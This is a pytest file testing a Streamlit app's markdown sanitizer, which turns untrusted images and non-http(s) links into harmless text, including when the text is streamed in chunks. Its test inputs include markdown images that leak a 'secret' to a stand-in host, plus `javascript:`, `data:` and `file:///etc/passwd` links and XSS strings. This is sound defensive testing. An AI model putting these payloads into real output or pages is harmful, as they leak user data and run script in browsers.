"""Text the app didn't write never makes the browser load an image or offer a non-http(s) link,
whole or streamed in any chunks.

Every output is rendered with a real CommonMark parser (markdown-it-py), as `st.markdown` renders
it (raw HTML off) and, for the image checks, with raw HTML on as well, so only real image syntax counts.
"""

from __future__ import annotations

import ast
import itertools
import random
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from app.ui.render import SafeMarkdownStream, plain, safe_markdown

AS_STREAMLIT = MarkdownIt("commonmark", {"html": False})
WITH_HTML = MarkdownIt("commonmark", {"html": True})
EVIL = "http://evil.test/?q=secret"

ATTACKS = [
    f"![x]({EVIL})",
    f"!![x]({EVIL})",
    f"hello !!![x]({EVIL}) bye",
    f"\\\\![x]({EVIL})",
    f"\\!![x]({EVIL})",
    f"[![x]({EVIL})]({EVIL})",
    f"![x][ref]\n\n[ref]: {EVIL}",
    f"!![x][ref]\n\n[ref]: {EVIL}",
    f"![ref]\n\n[ref]: {EVIL}",
    f"![x][]\n\n[x]: {EVIL}",
    f"![x](<{EVIL}>)",
    f'![x]({EVIL} "title")',
    f"* item ![x]({EVIL})",
    f"> quote !![x]({EVIL})",
    f"**bold**![x]({EVIL})",
    f"`code` ![x]({EVIL}) `more`",
    f"![a]({EVIL})![b]({EVIL})!![c]({EVIL})",
]
# Not images, but a fix that escaped `!` as `\!` would turn their backslash into an escaped one.
ESCAPED = [f"\\![x]({EVIL})", f"!\\![x]({EVIL})", f"\\![x][ref]\n\n[ref]: {EVIL}"]
HTML_ATTACKS = [f'<img src="{EVIL}">', f"text <img src='{EVIL}' /> text", f"<div>\n\n![x]({EVIL})\n\n</div>"]
SHORT = ["!![x](u)", "a!![b](c)!", "\\!![x][r]\n[r]: u", "!![x]!![y](u)"]


def has_image(markdown: str) -> bool:
    return "<img" in AS_STREAMLIT.render(markdown) or "<img" in WITH_HTML.render(markdown)


def streamed(chunks: list[str]) -> list[str]:
    """What the page shows after each chunk: the whole text so far, made safe."""
    stream = SafeMarkdownStream()
    return [stream.feed(chunk) for chunk in chunks]


def splits(text: str, pieces: int) -> list[list[str]]:
    return [
        [text[a:b] for a, b in itertools.pairwise((0, *cuts, len(text)))]
        for cuts in itertools.combinations(range(1, len(text)), pieces - 1)
    ]


def all_splits(text: str) -> list[list[str]]:
    return [chunks for n in range(1, len(text) + 1) for chunks in splits(text, n)]


@pytest.mark.parametrize("text", ATTACKS)
def test_the_attacks_are_images_and_come_out_as_links(text: str) -> None:
    assert has_image(text), "the attack itself must be an image, or the test proves nothing"
    safe = safe_markdown(text)
    assert not has_image(safe)
    assert "secret" in AS_STREAMLIT.render(safe) or "[ref]" in text or "[]" in text


@pytest.mark.parametrize("text", ESCAPED)
def test_escaped_variants_stay_without_images(text: str) -> None:
    assert not has_image(text)
    assert not has_image(safe_markdown(text))


@pytest.mark.parametrize("text", ATTACKS + ESCAPED)
def test_every_two_and_three_way_split_streams_safely(text: str) -> None:
    for chunks in [[text], list(text), *splits(text, 2), *splits(text, 3)]:
        shown = streamed(chunks)
        assert shown[-1] == safe_markdown(text)
        for markdown in shown:
            assert not has_image(markdown), chunks


@pytest.mark.parametrize("text", SHORT)
def test_every_chunking_of_short_attacks(text: str) -> None:
    for chunks in all_splits(text):
        shown = streamed(chunks)
        assert shown[-1] == safe_markdown(text)
        assert not any("![" in markdown for markdown in shown), chunks


def test_random_markdown_never_renders_an_image() -> None:
    rng = random.Random(7)
    alphabet = ["!", "!", "[", "]", "(", ")", "\\", "x", " ", "\n", ":", "<", ">", "`", "u", "*"]
    for _ in range(3000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(1, 24)))
        cuts = sorted(rng.sample(range(1, len(text)), min(3, len(text) - 1))) if len(text) > 1 else []
        chunks = [text[a:b] for a, b in itertools.pairwise((0, *cuts, len(text)))]
        shown = streamed(chunks)
        assert shown[-1] == safe_markdown(text)
        for markdown in shown:
            assert "![" not in markdown
            assert "<img" not in AS_STREAMLIT.render(markdown), text


def test_ordinary_text_is_unchanged() -> None:
    text = "Wow! It works!\n\n```python\nprint('hi!')\n```\n[a link](http://example.com) and `a[0]`!"
    assert safe_markdown(text) == text
    assert streamed([text[:5], text[5:13], text[13:]])[-1] == text


def test_extra_exclamation_marks_are_kept_apart_from_the_link() -> None:
    assert safe_markdown("Wow!![pic](u)") == "Wow! [🖼 pic](u)"
    assert safe_markdown("![pic](u)") == "[🖼 pic](u)"


@pytest.mark.parametrize("text", HTML_ATTACKS)
def test_raw_html_is_shown_as_text_the_way_st_markdown_renders_it(text: str) -> None:
    assert "<img" in WITH_HTML.render(text), "raw HTML would load the image if it were rendered"
    shown = AS_STREAMLIT.render(safe_markdown(text))
    assert "<img" not in shown
    assert "&lt;img" in shown or "&lt;div&gt;" in shown


def test_the_app_never_renders_markdown_as_html() -> None:
    """`st.markdown` escapes raw HTML only while `unsafe_allow_html` is off; no call may turn it on. The
    only `st.html` are `images_view.show_image`'s figure, built by `figure_html`, and the
    style-only rules of `style.py` (both tested below)."""
    app = Path(__file__).resolve().parent.parent / "app"
    offenders = []
    for path in app.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.keyword) and node.arg == "unsafe_allow_html":
                offenders.append(f"{path}:{node.lineno}")
            if isinstance(node, ast.Attribute) and node.attr == "html" and ast.unparse(node.value) == "st":
                offenders.append(f"{path.relative_to(app)}:{ast.unparse(node)}")
    assert sorted(offenders) == ["ui/images_view.py:st.html", "ui/style.py:st.html", "ui/style.py:st.html"]
    source = (app / "ui" / "images_view.py").read_text(encoding="utf-8")
    assert "st.html(figure_html(" in source
    style = (app / "ui" / "style.py").read_text(encoding="utf-8")
    assert style.count("st.html(") == 2
    assert style.count('st.html(f"<style>') + style.count('st.html(\n        "<style>"') == 2


@pytest.mark.parametrize("text", ["</style><script>alert(1)</script>", 'a"b\\c', "上传"])
def test_style_strings_cannot_close_the_style_element(text: str) -> None:
    """The style-only `st.html` of app/ui/style.py carries catalogue words as CSS strings."""
    import json

    from app.ui.style import css_string

    literal = css_string(text)
    assert "<" not in literal and literal.startswith('"') and literal.endswith('"')
    assert json.loads(literal.replace("\\3C ", "<")) == text


@pytest.mark.parametrize(
    "name", ['"><img src=x onerror=alert(1)>', "a<script>b</script>.png", "x' onload='y"]
)
def test_the_image_figure_escapes_its_name_and_loads_nothing_but_its_bytes(name: str) -> None:
    from html.parser import HTMLParser

    from app.ui.images_view import figure_html

    tags: list[tuple[str, dict[str, str | None]]] = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):  # type: ignore[no-untyped-def]
            tags.append((tag, dict(attrs)))

    Tags().feed(figure_html(b"\x89PNG fake", "image/png", name, width=120))
    assert [tag for tag, _ in tags] == ["figure", "img", "figcaption"]
    image = tags[1][1]
    assert set(image) == {"src", "alt", "style"} and image["alt"] == name
    assert (image["src"] or "").startswith("data:image/png;base64,")


BAD_LINKS = [
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](javascript:alert(1))",
    "[x](JavaScript:alert(1))",
    "[x](  <javascript:alert(1)>  )",
    "[x](java&#115;cript:alert(1))",
    "[x](data&colon;text/html,hi)",
    "[x](&#x64;ata:text/html,hi)",
    "[x](mailto:someone@example.com)",
    "[x](vbscript:msgbox)",
    "[x][r]\n\n[r]: file:///etc/passwd",
    "[r]\n\n[r]: <data:text/html,hi>",
    "- [x][r]\n\n   [r]:\n   javascript:alert(1)",
    "> [x][r]\n>\n> [r]: data:text/html,hi",
    "<file:///etc/passwd>",
    "<data:text/html,hi>",
    "<JAVASCRIPT:alert(1)>",
    "<someone@example.com>",
    "**[x](data:text/html,hi)** and [y](file:///x)",
    "[![x](data:image/png;base64,AAAA)](file:///etc)",
]
GOOD_LINKS = [
    "[x](http://example.com/a_(b))",
    "[x](HTTPS://example.com)",
    "[x](<https://example.com/a b>)",
    "[x][r]\n\n[r]: https://example.com",
    "<https://example.com>",
    "[x](/relative/path)",
    "[x](#anchor)",
]


def link_targets(markdown: str) -> list[str]:
    """The href of every link and the src of every image CommonMark makes of `markdown`."""
    found = []
    for token in AS_STREAMLIT.parse(markdown):
        for child in token.children or []:
            if child.type in ("link_open", "image"):
                found.append(str(child.attrGet("href") or child.attrGet("src")))
    return found


def scheme_of(url: str) -> str:
    return url.split(":", 1)[0].lower() if ":" in url.split("/", 1)[0] else ""


@pytest.mark.parametrize("text", BAD_LINKS)
def test_links_other_than_http_become_text(text: str) -> None:
    bare = MarkdownIt("commonmark", {"html": False})
    bare.validateLink = lambda url: True  # CommonMark's own filter off: our rule must hold by itself
    before = [
        str(c.attrGet("href") or c.attrGet("src"))
        for tok in bare.parse(text)
        for c in tok.children or []
        if c.type in ("link_open", "image")
    ]
    assert any(scheme_of(u) not in ("http", "https", "") for u in before), "the attack must be a link"
    after = [
        str(c.attrGet("href") or c.attrGet("src"))
        for tok in bare.parse(safe_markdown(text))
        for c in tok.children or []
        if c.type in ("link_open", "image")
    ]
    assert all(scheme_of(u) in ("http", "https", "") for u in after), after


@pytest.mark.parametrize("text", GOOD_LINKS)
def test_http_and_relative_links_stay_links(text: str) -> None:
    assert safe_markdown(text) == text
    assert link_targets(text)


@pytest.mark.parametrize("text", BAD_LINKS[:6])
def test_a_streamed_bad_link_is_never_shown_as_a_link(text: str) -> None:
    bare = MarkdownIt("commonmark", {"html": False})
    bare.validateLink = lambda url: True
    for chunks in [list(text), *splits(text, 2)]:
        for shown in streamed(chunks):
            hrefs = [
                str(c.attrGet("href"))
                for tok in bare.parse(shown)
                for c in tok.children or []
                if c.type == "link_open"
            ]
            assert all(scheme_of(u) in ("http", "https", "") for u in hrefs), (chunks, shown)


def test_plain_shows_names_as_they_are() -> None:
    name = "![t](http://evil.test/?q=1) [x](data:text/html,a) <b>*report*</b>.pdf"
    rendered = AS_STREAMLIT.render(plain(name))
    assert "<img" not in rendered and "<a " not in rendered and "<em>" not in rendered
    assert "report" in rendered
